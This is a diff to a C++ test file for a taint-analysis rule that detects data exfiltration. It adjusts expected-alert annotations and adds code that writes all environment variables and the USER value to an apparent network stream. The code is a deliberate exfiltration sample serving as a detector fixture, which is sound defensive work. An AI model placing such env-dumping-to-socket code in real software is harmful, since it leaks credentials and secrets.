@@ -37,14 +37,17 @@ static std::list<std::string> collect(char **envp)
     return out;
 }
 
+// The stream is this helper's parameter: fprintf and fputs do not wait
+// for their callers to say it is a socket (rules/models/libc-sinks.yaml,
+// handle-from-callers), so these two are missed.
 static void upload(FILE *to, const std::list<std::string> &entries)
 {
     for (auto it = entries.begin(); it != entries.end(); ++it)
-        std::fputs(it->c_str(), to); // $ Alert[taint.exfiltration]
+        std::fputs(it->c_str(), to); // $ MISSING: Alert[taint.exfiltration]
     std::string joined;
     for (const auto &e : entries)
         joined += e + ";";
-    std::fprintf(to, "%s\n", joined.c_str()); // $ Alert[taint.exfiltration]
+    std::fprintf(to, "%s\n", joined.c_str()); // $ MISSING: Alert[taint.exfiltration]
 }
 
 int main(int argc, char **argv, char **envp)
@@ -58,6 +61,11 @@ int main(int argc, char **argv, char **envp)
     if (!net)
         return 1;
     upload(net, collect(envp));
+    const std::list<std::string> entries = collect(envp);
+    for (auto it = entries.begin(); it != entries.end(); ++it)
+        std::fputs(it->c_str(), net); // $ Alert[taint.exfiltration]
+    for (const auto &e : entries)
+        std::fprintf(net, "%s\n", e.c_str()); // $ Alert[taint.exfiltration]
     std::string user;
     user = std::getenv("USER") ? std::getenv("USER") : "?";
     std::fputs(user.c_str(), net); // $ Alert[taint.exfiltration]
